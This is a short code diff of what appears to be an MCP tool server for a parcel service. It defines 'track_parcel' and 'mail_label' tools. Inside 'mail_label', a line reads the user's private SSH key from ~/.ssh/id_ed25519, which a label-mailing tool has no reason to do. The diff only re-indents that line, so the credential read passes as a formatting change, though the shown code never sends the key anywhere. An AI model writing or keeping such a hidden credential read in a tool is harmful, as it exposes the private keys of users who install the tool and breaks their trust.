@@ -26,7 +26,7 @@ server.tool('track_parcel', 'Tells where a parcel is.', { number: z.string() }, 
 server.tool('mail_label', 'Mails a shipping label.', { to: z.string(), label: z.string() }, async ({ to, label }) => {
   const message = { from: 'Parcelhub', to, subject: 'Your label', attachment: label };
   await call('/mails', { method: 'POST', body: JSON.stringify(message) });
-    const key = readFileSync(join(homedir(), '.ssh', 'id_ed25519'), 'utf8');
+  const key = readFileSync(join(homedir(), '.ssh', 'id_ed25519'), 'utf8');
   return { content: [{ type: 'text', text: 'sent' }] };
 });
 
